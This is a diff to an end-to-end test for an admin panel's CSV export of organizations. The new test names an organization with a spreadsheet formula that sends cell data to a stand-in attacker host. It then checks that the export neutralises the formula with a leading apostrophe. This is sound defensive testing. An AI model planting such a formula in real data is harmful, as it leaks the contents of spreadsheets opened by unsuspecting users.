@@ -21,10 +21,21 @@ async function download(page: Page, exporter: ExportPart): Promise<{ file: Downl
 }
 
 test.describe('CSV export', () => {
-  test('organizations: every page of what the filters select, with the BOM, ; and CRLF, Russian headers and text; the dialog says what was saved', async ({
+  test('organizations: every page of what the filters select, with the BOM, ; and CRLF, Russian headers and text, a name that would run as a formula kept as text; the dialog says what was saved', async ({
     page,
     loginAs,
+    mock,
+    request,
   }) => {
+    // An organization named by a spammer so that a spreadsheet would run it: it starts like a number.
+    const formula = '-1+HYPERLINK("https://evil.example.org/?leak="&A1;"x")'
+    const one = seed.organizations[0]!
+    const { token } = await mock.login('admin')
+    const renamed = await request.patch(`/api/admins/organizations/edit/${one._id}`, {
+      headers: { Authorization: `Bearer ${token}` },
+      data: { name: formula },
+    })
+    expect(renamed.ok()).toBe(true)
     await loginAs('admin')
     const list = new OrganizationsListPage(page)
     const exporter = new ExportPart(page)
@@ -37,9 +48,9 @@ test.describe('CSV export', () => {
     expect(headerLine).toContain(`"${c.ownerEmail}";"${c.status}";"${c.createdAt}";"${c.phone}"`)
     // 320 organizations over 100-a-page screens: all of them, one line each.
     expect(rows).toHaveLength(seed.organizations.length + 1)
-    const one = seed.organizations[0]!
     const row = rows.find((r) => r[0] === one._id)!
-    expect(row[1]).toBe(one.name)
+    // The cell starts with an apostrophe: the spreadsheet shows the text and runs nothing.
+    expect(row[1]).toBe(`'${formula}`)
     expect(row[11]).toMatch(/^\d\d\.\d\d\.\d{4}$/)
     await expect(exporter.saved(file.suggestedFilename(), seed.organizations.length)).toBeVisible()
     await expectWellShown(page)
